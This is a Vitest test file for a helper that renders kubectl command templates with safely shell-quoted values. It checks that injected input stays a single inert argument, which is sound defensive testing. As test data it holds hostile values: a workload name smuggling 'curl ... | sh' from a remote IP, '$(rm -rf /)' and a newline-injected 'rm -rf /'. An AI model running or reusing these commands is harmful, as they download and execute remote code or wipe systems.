import { execFileSync } from 'node:child_process';
import { parse } from 'shell-quote';
import { describe, expect, it } from 'vitest';
import { markMissing, renderShell, shellQuote } from '../../src/investigator/render-shell.js';
import { ListValue, NameValue } from '../../src/toolsets/template-values.js';

describe('renderShell', () => {
  it('shows an invalid name as one quoted word instead of running what it hides (the issue repro)', () => {
    const command = renderShell('kubectl -n {{namespace}} set resources deployment/{{workload}}', {
      namespace: new NameValue('devtools'),
      workload: new NameValue('code-complete; curl -s http://203.0.113.9/x | sh; echo '),
    });
    expect(command).toBe(
      "kubectl -n devtools set resources deployment/'<invalid name: code-complete; curl -s http://203.0.113.9/x | sh; echo >'",
    );
    expect(parse(command).filter((token) => typeof token === 'object')).toEqual([]);
  });

  it('quotes values from data as one word each, and a list as one word per item', () => {
    const command = renderShell('kubectl -n {{namespace}} delete pod {{pods}} -c {{container}}', {
      namespace: 'ml',
      pods: new ListValue(['a', 'b c']),
      container: '$(rm -rf /)',
    });
    expect(parse(command)).toEqual(['kubectl', '-n', 'ml', 'delete', 'pod', 'a', 'b c', '-c', '$(rm -rf /)']);
  });

  it('keeps a value inside the quotes it stands in', () => {
    // A real POSIX shell is the judge of what ends up in the argument.
    const value = 'a"$(x)`y`\\';
    expect(execFileSync('sh', ['-c', renderShell(`printf '%s' "{{v}}"`, { v: value })], { encoding: 'utf8' })).toBe(
      value,
    );
    expect(parse(renderShell(`grep -E '{{v}}|Pending'`, { v: "o'brien" }))).toEqual(['grep', '-E', "o'brien|Pending"]);
    expect(parse(renderShell(`grep -E '{{nodes}}'`, { nodes: new ListValue(['a.b', 'c']) }))).toEqual([
      'grep',
      '-E',
      'a\\.b|c',
    ]);
  });

  it('cannot end a comment early: a newline in a value stays on the comment line', () => {
    const command = renderShell('# PromQL: x{namespace="{{namespace}}"}\nkubectl get pods', {
      namespace: 'a\nrm -rf /',
    });
    expect(command.split('\n')).toHaveLength(2);
    expect(command.split('\n')[1]).toBe('kubectl get pods');
  });

  it('leaves plain words bare and single-quotes the rest', () => {
    expect(shellQuote('gpu-node-1.ec2.internal')).toBe('gpu-node-1.ec2.internal');
    expect(shellQuote("it's")).toBe(`'it'\\''s'`);
    expect(shellQuote('')).toBe("''");
  });
});

describe('markMissing', () => {
  const template =
    'kubectl -n {{namespace}} set env {{workload_kind}}/{{workload}} X=1{{^hpa}}  # no {{hpa_hint}}{{/hpa}}';

  it('puts <name> where a value is missing or empty, so the command shows what to fill in', () => {
    const view = { namespace: 'marlin-ft', workload: '', hpa_hint: 'x' };
    const marked = markMissing(template, view);
    expect(marked).toBe(
      'kubectl -n {{namespace}} set env <workload_kind>/<workload> X=1{{^hpa}}  # no {{hpa_hint}}{{/hpa}}',
    );
    expect(renderShell(marked, view)).toBe('kubectl -n marlin-ft set env <workload_kind>/<workload> X=1  # no x');
  });

  it('leaves a template whose values are all there, and the names of list sections, alone', () => {
    const view = { namespace: 'llm', workload_kind: 'Deployment', workload: 'chat-api', hpa: 'h', hpa_hint: 'x' };
    expect(markMissing(template, view)).toBe(template);
    const list = '{{#evictions}}kubectl -n {{namespace}} delete pod {{pod}}\n{{/evictions}}';
    expect(markMissing(list, { evictions: [{ namespace: 'a', pod: 'b' }] })).toBe(list);
  });
});
